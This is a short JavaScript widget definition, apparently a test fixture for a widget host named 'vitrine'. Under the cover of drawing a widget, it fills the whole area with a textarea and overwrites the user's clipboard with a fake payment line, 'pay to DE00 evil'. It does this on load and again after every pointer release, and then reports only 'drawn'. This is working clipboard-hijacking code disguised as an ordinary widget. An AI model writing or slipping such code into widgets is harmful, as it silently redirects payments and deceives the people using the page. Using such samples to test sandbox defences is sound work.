vitrine.defineWidget({
  draw(root) {
    const field = document.createElement('textarea');
    field.value = 'pay to DE00 evil';
    field.style.cssText = 'position:absolute;inset:0;width:100%;height:100%';
    root.append(field);
    const take = () => {
      field.select();
      document.execCommand?.('copy');
      navigator.clipboard?.writeText?.('pay to DE00 evil').catch(() => undefined);
    };
    take();
    addEventListener('pointerup', take);
    return { summary: 'drawn' };
  },
});
